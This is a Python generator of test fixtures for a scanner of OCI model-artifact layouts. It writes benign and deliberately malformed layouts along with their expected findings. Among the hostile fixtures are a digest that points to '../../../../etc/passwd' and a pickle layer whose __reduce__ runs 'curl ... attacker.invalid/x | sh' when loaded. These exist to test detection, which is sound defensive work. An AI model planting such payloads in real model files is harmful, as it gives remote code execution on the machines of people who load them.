#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Write the OCI image layout fixtures of this folder, expected.tsv, and the seeds of
tests/fuzz/corpus/oci.

Each fixture is a folder laid out as `oras copy --to-oci-layout` and `skopeo copy oci:` leave
a model artifact: oci-layout, index.json, and blobs/sha256/<digest> holding the manifests, the
config and the layers (the model's files, named by org.opencontainers.image.title, or by
org.cncf.model.filepath in CNCF ModelPack artifacts). The benign ones follow the image spec;
each hostile one breaks one rule. Standard library only. Run: python3 gen-oci.py [OUTDIR]
"""
import hashlib
import json
import os
import pickle
import shutil
import struct
import sys
import tarfile

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = sys.argv[1] if len(sys.argv) > 1 else HERE
SEEDS = os.path.join(HERE, "..", "..", "tests", "fuzz", "corpus", "oci")
rows = []

MANIFEST = "application/vnd.oci.image.manifest.v1+json"
INDEX = "application/vnd.oci.image.index.v1+json"
MODEL_ARTIFACT = "application/vnd.cncf.model.manifest.v1+json"


def safetensors():
    header = json.dumps({"w": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]},
                         "__metadata__": {"format": "pt"}}, separators=(",", ":")).encode()
    header += b" " * (-len(header) % 8)
    return struct.pack("<Q", len(header)) + header + struct.pack("<4f", 1, 2, 3, 4)


class Layout:
    def __init__(self, name):
        self.dir = os.path.join(OUT, name)
        shutil.rmtree(self.dir, ignore_errors=True)
        os.makedirs(os.path.join(self.dir, "blobs", "sha256"))
        self.write("oci-layout", json.dumps({"imageLayoutVersion": "1.0.0"}).encode())

    def write(self, rel, data):
        path = os.path.join(self.dir, rel)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as f:
            f.write(data)

    def blob(self, data, media, title=None, key="org.opencontainers.image.title"):
        digest = hashlib.sha256(data).hexdigest()
        self.write("blobs/sha256/" + digest, data)
        d = {"mediaType": media, "digest": "sha256:" + digest, "size": len(data)}
        if title:
            d["annotations"] = {key: title}
        return d

    def manifest(self, layers, config=None, artifact=MODEL_ARTIFACT):
        config = config or self.blob(json.dumps({"descriptor": {"name": "demo"}}).encode(),
                                     "application/vnd.cncf.model.config.v1+json")
        doc = {"schemaVersion": 2, "mediaType": MANIFEST, "artifactType": artifact,
               "config": config, "layers": layers}
        return self.blob(json.dumps(doc, indent=2).encode(), MANIFEST), doc

    def index(self, manifests, raw=None):
        doc = {"schemaVersion": 2, "mediaType": INDEX, "manifests": manifests}
        data = raw if raw is not None else json.dumps(doc, indent=2).encode()
        self.write("index.json", data)
        return data


def model_layers(lay, key="org.opencontainers.image.title"):
    return [lay.blob(safetensors(), "application/vnd.cncf.model.weight.v1.raw",
                     "model.safetensors", key),
            lay.blob(b'{"architectures": ["Demo"]}', "application/vnd.cncf.model.weight.config.v1.raw",
                     "config.json", key)]


def tag(d, ref="latest"):
    d = dict(d)
    d["annotations"] = {"org.opencontainers.image.ref.name": ref}
    return d


def row(name, rules):
    rows.append((name, rules))


def seed(name, lay):
    """index.json, a NUL, then the first manifest: what fuzz_oci takes apart again."""
    os.makedirs(SEEDS, exist_ok=True)
    with open(os.path.join(lay.dir, "index.json"), "rb") as f:
        data = f.read()
    try:
        first = json.loads(data)["manifests"][0]["digest"].split(":", 1)[1]
        with open(os.path.join(lay.dir, "blobs", "sha256", first), "rb") as f:
            data += b"\0" + f.read()
    except (ValueError, KeyError, IndexError, TypeError, OSError):
        pass
    with open(os.path.join(SEEDS, name + ".bin"), "wb") as f:
        f.write(data)


# ---- benign ----

lay = Layout("ok_modelpack")
m, _ = lay.manifest(model_layers(lay, "org.cncf.model.filepath"))
lay.index([tag(m)])
row("ok_modelpack", "-")
seed("ok_modelpack", lay)

lay = Layout("ok_oras")
m, _ = lay.manifest(model_layers(lay),
                    config=lay.blob(b"{}", "application/vnd.oci.empty.v1+json"),
                    artifact="application/vnd.example.model")
lay.index([tag(m, "v1")])
lay.write("README.md", b"A model copied with oras copy --to-oci-layout.\n")
row("ok_oras", "-")

lay = Layout("ok_nested_index")
m1, _ = lay.manifest(model_layers(lay))
inner = lay.blob(json.dumps({"schemaVersion": 2, "mediaType": INDEX,
                             "manifests": [m1]}).encode(), INDEX)
lay.index([tag(inner)])
row("ok_nested_index", "-")
seed("ok_nested_index", lay)

lay = Layout("ok_unreferenced")
m, _ = lay.manifest(model_layers(lay))
lay.index([tag(m)])
lay.blob(b"left behind by an earlier push", "application/octet-stream")
row("ok_unreferenced", "info:oci.blob.unreferenced")

# ---- hostile ----

lay = Layout("blob_missing")
layers = model_layers(lay)
os.unlink(os.path.join(lay.dir, "blobs", "sha256", layers[0]["digest"][7:]))
m, _ = lay.manifest(layers)
lay.index([tag(m)])
row("blob_missing", "oci.blob.missing")
seed("blob_missing", lay)

lay = Layout("blob_size")
layers = model_layers(lay)
layers[0]["size"] -= 8          # a reader trusting the descriptor stops short
m, _ = lay.manifest(layers)
lay.index([tag(m)])
row("blob_size", "oci.blob.size")
seed("blob_size", lay)

lay = Layout("blob_tampered")
layers = model_layers(lay)
path = os.path.join(lay.dir, "blobs", "sha256", layers[1]["digest"][7:])
with open(path, "r+b") as f:
    f.write(b"[")
m, _ = lay.manifest(layers)
lay.index([tag(m)])
row("blob_tampered", "integrity.digest.mismatch")

lay = Layout("digest_traversal")
layers = model_layers(lay)
layers.append({"mediaType": "application/vnd.cncf.model.weight.v1.raw",
               "digest": "sha256:../../../../etc/passwd", "size": 100,
               "annotations": {"org.opencontainers.image.title": "extra.bin"}})
m, _ = lay.manifest(layers)
lay.index([tag(m)])
row("digest_traversal", "oci.digest.invalid")
seed("digest_traversal", lay)

lay = Layout("digest_algorithm")
m, _ = lay.manifest(model_layers(lay))
m = dict(m, digest="md5:" + "0" * 32)
lay.index([tag(m)])
row("digest_algorithm", "oci.digest.invalid")

lay = Layout("index_invalid")
m, _ = lay.manifest(model_layers(lay))
lay.index([], raw=b'{"schemaVersion": 2, "manifests": [')
row("index_invalid", "oci.layout.invalid")
seed("index_invalid", lay)

lay = Layout("index_duplicate_key")
m, _ = lay.manifest(model_layers(lay))
lay.index([], raw=('{"schemaVersion": 2, "manifests": [], "manifests": [%s]}'
                   % json.dumps(tag(m))).encode())
row("index_duplicate_key", "oci.layout.invalid")
seed("index_duplicate_key", lay)

lay = Layout("index_missing")
lay.manifest(model_layers(lay))
row("index_missing", "oci.layout.invalid")

lay = Layout("layout_version")
lay.write("oci-layout", b'{"imageLayoutVersion": "2.0.0"}')
m, _ = lay.manifest(model_layers(lay))
lay.index([tag(m)])
row("layout_version", "oci.layout.invalid")

lay = Layout("manifest_schema")
layers = model_layers(lay)
doc = {"schemaVersion": 1, "mediaType": MANIFEST, "layers": layers}
m = lay.blob(json.dumps(doc).encode(), MANIFEST)
lay.index([tag(m)])
row("manifest_schema", "oci.layout.invalid")
seed("manifest_schema", lay)

# A manifest that names itself cannot match its own digest; the walk must still end.
lay = Layout("manifest_loop")
fake = "sha256:" + "ab" * 32
doc = {"schemaVersion": 2, "mediaType": MANIFEST, "config": model_layers(lay)[1],
       "layers": [{"mediaType": MANIFEST, "digest": fake, "size": 0}]}
data = json.dumps(doc).encode()
doc["layers"][0]["size"] = len(data)
data = json.dumps(doc).encode()
lay.write("blobs/sha256/" + "ab" * 32, data)
lay.index([tag({"mediaType": MANIFEST, "digest": fake, "size": len(data)})])
row("manifest_loop", "integrity.digest.mismatch,oci.blob.size")
seed("manifest_loop", lay)

# A layer that is a pickle calling os.system, as a model pushed with a .pt weight would be.
lay = Layout("layer_pickle")


class Payload:
    def __reduce__(self):
        return (os.system, ("curl -s http://attacker.invalid/x | sh",))


layers = [lay.blob(pickle.dumps({"w": Payload()}, protocol=2),
                   "application/vnd.cncf.model.weight.v1.raw", "pytorch_model.bin")]
m, _ = lay.manifest(layers)
lay.index([tag(m)])
row("layer_pickle", "pickle.global.denied")
seed("layer_pickle", lay)

# ---- layouts packed into tars, as docker save and skopeo copy oci-archive: write them ----


def pack(name, layout):
    """layout as a tar with members ./oci-layout, ./blobs/sha256/..., in sorted order."""
    root = os.path.join(OUT, layout)
    with tarfile.open(os.path.join(OUT, name), "w", format=tarfile.PAX_FORMAT) as t:
        for dirpath, dirnames, filenames in sorted(os.walk(root)):
            dirnames.sort()
            for fn in sorted(filenames):
                full = os.path.join(dirpath, fn)
                info = t.gettarinfo(full, "./" + os.path.relpath(full, root))
                info.mtime, info.uid, info.gid, info.uname, info.gname = 0, 0, 0, "", ""
                with open(full, "rb") as f:
                    t.addfile(info, f)


pack("ok_modelpack.tar", "ok_modelpack")
row("ok_modelpack.tar", "-")
pack("blob_tampered.tar", "blob_tampered")
row("blob_tampered.tar", "integrity.digest.mismatch")

with open(os.path.join(OUT, "expected.tsv"), "w") as f:
    f.write("# fixture\texpected rules (comma-separated), or - for nothing above info\n")
    for name, rules in rows:
        f.write("%s\t%s\n" % (name, rules))
